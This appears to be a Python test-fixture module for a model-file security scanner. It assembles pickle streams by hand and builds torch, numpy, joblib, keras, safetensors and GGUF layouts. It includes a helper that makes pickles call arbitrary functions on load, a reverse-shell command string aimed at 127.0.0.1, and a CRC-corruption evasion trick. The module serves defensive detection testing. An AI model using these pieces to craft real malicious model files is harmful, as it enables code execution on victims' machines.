"""Model files built in code for tests: a tiny pickle assembler and the real container layouts.

Nothing here unpickles anything. Malicious payloads only ever name commands against
`*.invalid` hosts or 127.0.0.1 and are never loaded.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
import zlib

# -- pickle assembler ---------------------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(n: int) -> bytes:
    return b"\x95" + struct.pack("<Q", n)


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def string0(text: str) -> bytes:
    """Protocol 0 STRING."""
    return b"S'" + text.encode() + b"'\n"


def unicode0(text: str) -> bytes:
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def int1(n: int) -> bytes:
    return b"K" + bytes([n])


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def put(i: int) -> bytes:
    return b"p" + str(i).encode() + b"\n"


def get(i: int) -> bytes:
    return b"g" + str(i).encode() + b"\n"


MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"0", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NEWOBJ, OBJ, STACK_GLOBAL, MEMOIZE = b"R", b"b", b"\x81", b"o", b"\x93", b"\x94"
EMPTY_DICT, EMPTY_TUPLE, EMPTY_LIST, SETITEM, SETITEMS, APPEND, APPENDS = b"}", b")", b"]", b"s", b"u", b"a", b"e"
NONE, NEWTRUE, NEWFALSE, BINPERSID, DICT = b"N", b"\x88", b"\x89", b"Q", b"d"


def call(module: str, name: str, *args: bytes, protocol: int = 2) -> bytes:
    """A complete pickle that calls module.name(*args) on load (the `__reduce__` shape)."""
    head = proto(protocol) if protocol >= 2 else b""
    return head + global_(module, name) + MARK + b"".join(args) + TUPLE + REDUCE + STOP


def stack_call(module: str, name: str, *args: bytes) -> bytes:
    """The protocol 4 form: names on the stack, STACK_GLOBAL, memoized like pickle does."""
    return (
        proto(4)
        + s(module)
        + MEMOIZE
        + s(name)
        + MEMOIZE
        + STACK_GLOBAL
        + MEMOIZE
        + MARK
        + b"".join(args)
        + TUPLE
        + REDUCE
        + STOP
    )


REVERSE_SHELL = "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"

# -- benign layouts -----------------------------------------------------------------------------------


def torch_state_dict_pickle() -> bytes:
    """`archive/data.pkl` of `torch.save({'weight': torch.zeros(4)})` (protocol 2, persistent storage)."""
    return (
        proto(2) + EMPTY_DICT + binput(0) + MARK
        + binunicode("weight") + binput(1)
        + global_("torch._utils", "_rebuild_tensor_v2") + binput(2)
        + MARK + MARK + binunicode("storage") + binput(3) + global_("torch", "FloatStorage") + binput(4)
        + binunicode("0") + binput(5) + binunicode("cpu") + binput(6) + int1(4) + TUPLE + binput(7) + BINPERSID
        + int1(0) + int1(4) + TUPLE1 + binput(8) + int1(1) + TUPLE1 + binput(9) + NEWFALSE
        + global_("collections", "OrderedDict") + binput(10) + EMPTY_TUPLE + REDUCE + binput(11)
        + TUPLE + binput(12) + REDUCE + binput(13)
        + SETITEMS + STOP
    )  # fmt: skip


def torch_zip(
    data_pkl: bytes, *, prefix: str = "archive", crc_ok: bool = True, extra: dict[str, bytes] | None = None
) -> bytes:
    """The zip layout `torch.save` writes: data.pkl, byteorder, data/<key>, version, serialization id."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        zf.writestr(f"{prefix}/data/0", b"\x00" * 16)
        zf.writestr(f"{prefix}/version", b"3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    raw = out.getvalue()
    if crc_ok:
        return raw
    # Corrupt data.pkl's CRC in both headers, as CVE-2025-10156 did: PyTorch never checks it.
    crc = struct.pack("<I", zlib.crc32(data_pkl))
    bad = struct.pack("<I", zlib.crc32(data_pkl) ^ 0xFFFFFFFF)
    return raw.replace(crc, bad)


def torchscript_zip() -> bytes:
    """A `torch.jit.save` layout: data.pkl naming `__torch__` classes, constants.pkl, code/ sources."""
    data_pkl = (
        proto(2) + global_("__torch__.model", "Net") + binput(0) + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
        + MARK + binunicode("training") + NEWFALSE + SETITEMS + BUILD + STOP
    )  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("net/data.pkl", data_pkl)
        zf.writestr("net/constants.pkl", proto(2) + EMPTY_TUPLE + STOP)
        zf.writestr("net/code/__torch__/model.py", "class Net(Module):\n  def forward(self, x): return x\n")
        zf.writestr("net/version", b"6\n")
    return out.getvalue()


LEGACY_MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"


def torch_legacy(main: bytes | None = None) -> bytes:
    """The pre-1.6 `torch.save` layout: five pickles back to back, then raw storage bytes."""
    version = proto(2) + b"M\xe9\x03" + STOP  # 1001
    sys_info = (
        proto(2) + EMPTY_DICT + MARK + binunicode("protocol_version") + b"M\xe9\x03"
        + binunicode("little_endian") + NEWTRUE + binunicode("type_sizes") + EMPTY_DICT
        + MARK + binunicode("short") + int1(2) + binunicode("int") + int1(4) + binunicode("long") + int1(4) + SETITEMS
        + SETITEMS + STOP
    )  # fmt: skip
    keys = proto(2) + EMPTY_LIST + MARK + binunicode("0") + APPENDS + STOP
    storage = struct.pack("<q", 4) + b"\x00" * 16
    return LEGACY_MAGIC + version + sys_info + (main or torch_state_dict_pickle()) + keys + storage


def torch_tar(main: bytes | None = None, storage_record: bytes | None = None) -> bytes:
    """The oldest `torch.save` layout: a tar of sys_info, pickle, storages and tensors."""
    record = storage_record or (
        proto(2) + binunicode("0") + binunicode("cpu") + global_("torch", "FloatStorage") + TUPLE3 + STOP
    )
    storages = proto(2) + int1(1) + STOP + record + struct.pack("<q", 4) + b"\x00" * 16 + proto(2) + EMPTY_LIST + STOP
    tensor_record = proto(2) + binunicode("t0") + binunicode("0") + global_("torch", "FloatTensor") + TUPLE3 + STOP
    tensors = (
        proto(2) + int1(1) + STOP + tensor_record + struct.pack("<i", 1) + b"\0" * 4 + struct.pack("<qqq", 4, 1, 0)
    )
    members = {
        "sys_info": proto(2) + EMPTY_DICT + STOP,
        "pickle": main or (proto(2) + EMPTY_DICT + binunicode("w") + binunicode("t0") + SETITEM + STOP),
        "storages": storages,
        "tensors": tensors,
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


# Produced by numpy 2.4.6 `np.save(f, np.arange(3, dtype='<f8'))`.
NPY_FLOAT = (
    b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (3,), }" + b" " * 60 + b"\n"
    + b"\x00" * 14 + b"\xf0?" + b"\x00" * 7 + b"@"
)  # fmt: skip
# Produced by numpy 2.4.6 `np.save(f, np.array(['a', 1], dtype=object), allow_pickle=True)`.
NPY_OBJECT = (
    b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (2,), }" + b" " * 61 + b"\n"
    b"\x80\x04\x95\x90\x00\x00\x00\x00\x00\x00\x00\x8c\x16numpy._core.multiarray\x94\x8c\x0c_reconstruct\x94\x93"
    b"\x94\x8c\x05numpy\x94\x8c\x07ndarray\x94\x93\x94K\x00\x85\x94C\x01b\x94\x87\x94R\x94(K\x01K\x02\x85\x94h\x03"
    b"\x8c\x05dtype\x94\x93\x94\x8c\x02O8\x94\x89\x88\x87\x94R\x94(K\x03\x8c\x01|\x94NNNJ\xff\xff\xff\xffJ\xff\xff"
    b"\xff\xffK?t\x94b\x89]\x94(\x8c\x01a\x94K\x01et\x94b."
)
# Produced by joblib 1.6.0 `joblib.dump({'w': np.arange(6, dtype='<f8').reshape(2, 3), 'n': 'lr'}, f)`:
# the array's bytes sit inside the pickle stream, after the BUILD of its NumpyArrayWrapper.
JOBLIB_DUMP = (
    b"\x80\x04\x95\xda\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x01w\x94\x8c\x13joblib.numpy_pickle\x94\x8c\x11"
    b"NumpyArrayWrapper\x94\x93\x94)\x81\x94}\x94(\x8c\x08subclass\x94\x8c\x05numpy\x94\x8c\x07ndarray\x94\x93"
    b"\x94\x8c\x05shape\x94K\x02K\x03\x86\x94\x8c\x05order\x94\x8c\x01C\x94\x8c\x05dtype\x94h\x08\x8c\x05dtype"
    b"\x94\x93\x94\x8c\x02f8\x94\x89\x88\x87\x94R\x94(K\x03\x8c\x01<\x94NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK"
    b"\x00t\x94b\x8c\nallow_mmap\x94\x88\x8c\x1bnumpy_array_alignment_bytes\x94K\x10ub\n" + b"\xff" * 10
    + b"\x00" * 14 + b"\xf0?" + b"\x00" * 7 + b"@" + b"\x00" * 6 + b"\x08@" + b"\x00" * 6 + b"\x10@"
    + b"\x00" * 6 + b"\x14@"
    + b"\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x01n\x94\x8c\x02lr\x94u."
)  # fmt: skip


def npy(header: dict[str, object], payload: bytes) -> bytes:
    text = repr(header).encode("latin-1")
    pad = 64 - (10 + len(text) + 1) % 64
    head = text + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + payload


def npz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def keras_zip(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    return out.getvalue()


def dense_layer() -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 4, "activation": "relu"},
        "registered_name": None,
    }


def lambda_layer() -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None}},
        },
        "registered_name": None,
    }


def safetensors(
    tensors: dict[str, tuple[str, list[int], bytes]], *, offsets: dict[str, list[int]] | None = None
) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    for name, override in (offsets or {}).items():
        header[name]["data_offsets"] = override  # type: ignore[index]
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def gguf(metadata: dict[str, str]) -> bytes:
    """A GGUF v3 file with string metadata and no tensors."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(metadata))
    for key, value in metadata.items():
        k, v = key.encode(), value.encode()
        out += struct.pack("<Q", len(k)) + k + struct.pack("<I", 8) + struct.pack("<Q", len(v)) + v
    return out


SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24
HDF5 = b"\x89HDF\r\n\x1a\n" + b"\x00" * 64


# -- judging --------------------------------------------------------------------------------------------


def findings_for(data: bytes, path: str = "model.bin", kind: str = "directory") -> list[object]:
    """The model analyzer's findings for one file, facts passed through the cache codec as the engine does."""
    from chainwarden.analyzers.base import ArtifactView
    from chainwarden.analyzers.mlmodels.analyzer import ModelAnalyzer
    from chainwarden.analyzers.mlmodels.facts import ModelFacts
    from chainwarden.codec import from_jsonable, to_jsonable
    from chainwarden.models import ArtifactKind, ArtifactRef, Member

    analyzer = ModelAnalyzer()
    member = Member(path, len(data))
    view = ArtifactView(ArtifactRef(ArtifactKind(kind), "/fixture", "fixture"), ArtifactKind(kind), None, (member,))
    assert analyzer.select(member, view), path
    facts = from_jsonable(ModelFacts, to_jsonable(analyzer.extract(data)))
    return list(analyzer.judge(view, {path: facts}))


def rule_ids(data: bytes, path: str = "model.bin") -> set[str]:
    return {f.rule_id for f in findings_for(data, path)}  # type: ignore[attr-defined]


def blocked(data: bytes, path: str = "model.bin") -> bool:
    """At least one finding at the default blocking threshold (high)."""
    return any(f.severity >= 3 for f in findings_for(data, path))  # type: ignore[attr-defined]
